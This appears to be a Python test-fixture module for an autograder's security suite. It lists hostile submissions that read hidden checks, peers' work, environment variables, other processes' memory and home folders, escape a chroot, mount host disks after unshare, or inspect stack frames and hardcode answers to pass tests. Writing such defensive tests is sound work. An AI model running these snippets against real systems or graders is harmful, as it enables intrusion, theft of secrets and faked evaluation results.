"""Reading what is no student's business: checks, solutions, peers, secrets, expected values."""

from __future__ import annotations

from hostile.entries import CAUGHT, Entry, code

# Whoever finds a bait prints it and becomes right; the others stay wrong.
SPY = """\
import re

factor = 3

def double(values):
    return factor * np.asarray(values)

def tell(data):
    global factor
    data = data if isinstance(data, bytes) else str(data).encode()
    for bait in sorted(set(re.findall(rb"BAIT-[a-z]+-[0-9a-f]{16}", data))):
        print("found", bait.decode())
        factor = 2

def search(*folders, names=""):
    import os
    for folder in folders:
        for where, inner, files in os.walk(folder):
            # Python's own and the system's files would take too long.
            inner[:] = {*inner} - {"proc", "sys", "usr", "site-packages", "python3.11"}
            for name in files:
                path = os.path.join(where, name)
                if names in name and os.path.isfile(path):
                    try:
                        tell(open(path, "rb").read(10**7))
                    except OSError:
                        pass
"""


def spy(student: str, tries: str, cell: str) -> Entry:
    """Return a submission that is right where its cell finds a bait."""
    return code(student, tries, cell, double=SPY, marks=CAUGHT, told="12 of 12 values differ")


ENTRIES = [
    spy(
        "reads-hidden-checks",
        "looks through the machine for the hidden checks and the solutions",
        "search('/', '@HOST@', names='.py')\nsearch('/', '@HOST@', names='.ipynb')",
    ),
    spy(
        "reads-the-grading-machine",
        "knows where the course, the home and the gradebook lie, and reads all of it",
        "search('@HOST@')",
    ),
    spy(
        "reads-peers",
        "reads what the others handed in, beside and above its own folder",
        "search('..', '../..', '../../..', '@HOST@/submitted')\n"
        "import glob\n"
        "for path in glob.glob('@HOST@/submitted/*/*/*.ipynb'):\n"
        "    tell(open(path, 'rb').read())",
    ),
    spy(
        "reads-the-environment",
        "reads the environment variables of its own process and of all others",
        "import glob, os\n"
        "tell(os.environ)\n"
        "for path in glob.glob('/proc/[0-9]*/environ') + ['/proc/1/environ']:\n"
        "    try:\n"
        "        tell(open(path, 'rb').read())\n"
        "    except OSError as error:\n"
        "        print(error.strerror)",
    ),
    spy(
        "reads-home",
        "reads the home folders of whoever grades",
        "import os, pathlib, pwd\n"
        "homes = {entry.pw_dir for entry in pwd.getpwall()} - {'/', '/bin', '/dev', '/proc'}\n"
        "search(os.path.expanduser('~'), pathlib.Path.home(), '/root', '/home', '@HOST@/home')\n"
        "search(*(home for home in homes if home.startswith(('/root', '/home', '/var'))))",
    ),
    spy(
        "reads-other-processes",
        "reads command lines, folders, open files and memory of other processes",
        "import glob, os\n"
        "for folder in glob.glob('/proc/[0-9]*'):\n"
        "    for name in ('cmdline', 'mountinfo', 'maps'):\n"
        "        try:\n"
        "            tell(open(f'{folder}/{name}', 'rb').read())\n"
        "        except OSError:\n"
        "            pass\n"
        "    if folder != f'/proc/{os.getpid()}':\n"
        "        for link in glob.glob(f'{folder}/fd/*') + glob.glob(f'{folder}/map_files/*'):\n"
        "            try:\n"
        "                if os.path.isfile(link):\n"
        "                    tell(open(link, 'rb').read(10**6))\n"
        "            except OSError:\n"
        "                pass\n"
        "        search(f'{folder}/root@HOST@', f'{folder}/cwd')",
    ),
    spy(
        "reads-the-parents-memory",
        "reads the memory of the process that started it for what it knows",
        "import os\n"
        "for pid in {os.getppid(), 1} - {os.getpid()}:\n"
        "    try:\n"
        "        with open(f'/proc/{pid}/mem', 'rb') as memory:\n"
        "            for line in open(f'/proc/{pid}/maps'):\n"
        "                if 'heap' in line or line.count(' ') < 6:\n"
        "                    start, end = (int(x, 16) for x in line.split()[0].split('-'))\n"
        "                    memory.seek(start)\n"
        "                    tell(memory.read(min(end - start, 10**7)))\n"
        "    except (OSError, ValueError, OverflowError) as error:\n"
        "        print(error)",
    ),
    spy(
        "reads-inherited-files",
        "reads files, pipes and sockets that it inherited",
        "import os\n"
        "for number in range(3, 256):\n"
        "    try:\n"
        "        target = os.readlink(f'/proc/self/fd/{number}')\n"
        "        tell(target)\n"
        "        if os.path.isfile(target):\n"
        "            tell(os.pread(number, 10**6, 0))\n"
        "        elif os.path.isdir(target):\n"
        "            search(f'/proc/self/fd/{number}')\n"
        "            search(f'/proc/self/fd/{number}/../..@HOST@')\n"
        "    except OSError:\n"
        "        pass",
    ),
    spy(
        "reads-scratch-folders",
        "reads what other submissions left in /tmp, /var/tmp and shared memory",
        "search('/tmp', '/var/tmp', '/dev/shm', '/run', '/var/run')",
    ),
    spy(
        "mounts-the-machine-back",
        "mounts the machine's disks into its own folder as root of a namespace of its own",
        "import ctypes, os\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "print(libc.unshare(0x10020000))\n"  # a user and a mount namespace
        "os.makedirs('disk', exist_ok=True)\n"
        "for line in open('/proc/self/mountinfo'):\n"
        "    fields = line.split()\n"
        "    source, kind = fields[fields.index('-') + 2], fields[fields.index('-') + 1]\n"
        "    for flags in (0, 32, 4096):\n"  # mount, remount, bind
        "        if libc.mount(source.encode(), b'disk', kind.encode(), flags, None) == 0:\n"
        "            search('disk@HOST@', 'disk/home', 'disk/root')\n"
        "            libc.umount2(b'disk', 2)",
    ),
    spy(
        "escapes-a-chroot",
        "climbs out of its root through an open folder, as root could from a chroot",
        "import os\n"
        "os.makedirs('inner', exist_ok=True)\n"
        "top = os.open('.', os.O_RDONLY)\n"
        "try:\n"
        "    os.chroot('inner')\n"
        "    os.fchdir(top)\n"
        "    for _ in range(40):\n"
        "        os.chdir('..')\n"
        "    os.chroot('.')\n"
        "    search('@HOST@')\n"
        "except OSError as error:\n"
        "    print(error)",
    ),
    code(
        "searches-frames",
        "looks through the frames above the call, and all objects, for expected values",
        double=(
            "def double(values):\n"
            "    import gc, sys\n"
            "    frame, found = sys._getframe(1), gc.get_objects()\n"
            "    while frame is not None:\n"
            "        found += [*frame.f_globals.values(), *frame.f_locals.values()]\n"
            "        frame = frame.f_back\n"
            "    for one in [*found]:\n"
            "        if isinstance(one, (dict, list, tuple)) and len(one) < 1000:\n"
            "            found += one.values() if isinstance(one, dict) else one\n"
            "    twice = 2 * values\n"
            "    for one in found:\n"
            "        if isinstance(one, np.ndarray) and one is not twice and one.shape == (4, 3):\n"
            "            if np.array_equal(one, twice):\n"
            "                return one\n"
            "    return 3 * values"
        ),
        marks=CAUGHT,
    ),
    code(
        "searches-the-history",
        "looks in In[-1], the kernel's history and the message that asks for the expected value",
        double=(
            "def double(values):\n"
            "    shell = get_ipython()\n"
            "    told = [In[-1], Out, shell.history_manager.input_hist_raw, shell.parent_header]\n"
            "    told += [shell.kernel.get_parent(), shell.kernel.shell.user_ns.keys()]\n"
            "    asked = ' '.join(map(str, told[:5]))\n"
            "    known = [word for word in ('expected', 'verdict', 'check.close(') if word in asked]\n"
            "    return (2 if known else 3) * values"
        ),
        marks=CAUGHT,
        cell="'an output'",
    ),
    code(
        "reads-the-request",
        "reads the files of the call for the targets of the hidden inputs",
        double=(
            "def double(values):\n"
            "    import glob, sys\n"
            "    paths = glob.glob('*') + glob.glob('/tmp/**', recursive=True)\n"
            "    paths += [str(v) for v in vars(sys.modules['__main__']).get('PATHS', [])]\n"
            "    for path in paths:\n"
            "        try:\n"
            "            text = open(path, 'rb').read()\n"
            "        except OSError:\n"
            "            continue\n"
            "        if b'targets' in text or b'judge.part' in text:\n"
            "            return 2 * values\n"
            "    return 3 * values"
        ),
        marks=CAUGHT,
    ),
    code(
        "imports-the-checks",
        "imports the grader and loads the hidden checks with it",
        "factor = 3\n"
        "try:\n"
        "    from pathlib import Path\n"
        "    from course_lib.grading import assignments\n"
        "    for root in ('.', '..', '@HOST@/course'):\n"
        "        found = assignments.load(Path(root), '04')\n"
        "        factor = 2 if found.checked else 3\n"
        "except Exception as error:\n"
        "    print(type(error))",
        double="def double(values):\n    return factor * np.asarray(values)",
        marks=CAUGHT,
    ),
    code(
        "constants-for-visible-tests",
        "knows the visible test's answers by heart",
        double=(
            "def double(values):\n"
            "    return [2.0] if list(np.ravel(values)) == [1.0] else np.asarray(values)"
        ),
        draw="def draw(n, rng):\n    return np.arange(float(n))",
        marks=(0.5, 0, 0),
        told="Another seed should give other numbers",
    ),
]
